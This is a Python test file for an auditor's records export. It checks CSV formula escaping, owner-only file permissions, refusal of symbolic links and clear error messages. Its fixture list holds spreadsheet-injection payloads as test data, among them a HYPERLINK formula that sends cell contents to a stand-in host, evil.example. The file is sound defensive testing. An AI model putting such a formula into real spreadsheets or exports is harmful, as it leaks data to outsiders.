"""The records export as an auditor runs it: what it writes, and what it refuses."""

from __future__ import annotations

import csv
import os
import stat
from datetime import date
from pathlib import Path

import pytest

from serving.records.admin import export
from serving.records.database import engine_for
from serving.records.queries import Records
from tests.unit.serving.records.helpers import rows, write

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A2,"x")', "+1", "-2+3", "@SUM(1)", "\tx", "\rx"]


@pytest.fixture
def sqlite_records(tmp_path: Path) -> Records:
    records = Records(engine_for(f"sqlite:///{tmp_path / 'db' / 'decisions.db'}"))
    for i, reference in enumerate(FORMULAS):
        write(records.engine, rows(f"r{i}", reference=reference))
    return records


def test_no_cell_of_the_csv_is_a_formula(sqlite_records: Records, tmp_path: Path) -> None:
    out = tmp_path / "decisions.csv"
    assert export(sqlite_records, out, None, None) == len(FORMULAS)
    with out.open(newline="") as file:
        exported = [row["client_reference"] for row in csv.DictReader(file)]
    assert exported == [f"'{reference}" for reference in FORMULAS]
    for row in csv.reader(out.open(newline="")):
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
def test_the_export_and_the_database_are_readable_by_their_owner_only(
    sqlite_records: Records, tmp_path: Path, suffix: str
) -> None:
    out = tmp_path / f"decisions{suffix}"
    out.write_text("an older export")
    out.chmod(0o644)
    export(sqlite_records, out, None, None)
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    database = tmp_path / "db" / "decisions.db"
    assert stat.S_IMODE(database.stat().st_mode) == 0o600
    assert stat.S_IMODE(database.parent.stat().st_mode) == 0o700


def test_a_symbolic_link_is_refused_and_its_target_untouched(
    sqlite_records: Records, tmp_path: Path
) -> None:
    target = tmp_path / "precious.txt"
    target.write_text("keep me")
    link = tmp_path / "decisions.csv"
    os.symlink(target, link)
    with pytest.raises(SystemExit, match="symbolic link"):
        export(sqlite_records, link, None, None)
    assert target.read_text() == "keep me"


def test_a_missing_folder_and_an_empty_period_are_one_line_errors(
    sqlite_records: Records, tmp_path: Path
) -> None:
    with pytest.raises(SystemExit, match="does not exist"):
        export(sqlite_records, tmp_path / "nowhere" / "decisions.csv", None, None)
    with pytest.raises(SystemExit, match="not before"):
        export(sqlite_records, tmp_path / "d.csv", date(2026, 12, 2), date(2026, 12, 1))
    assert not (tmp_path / "d.csv").exists()
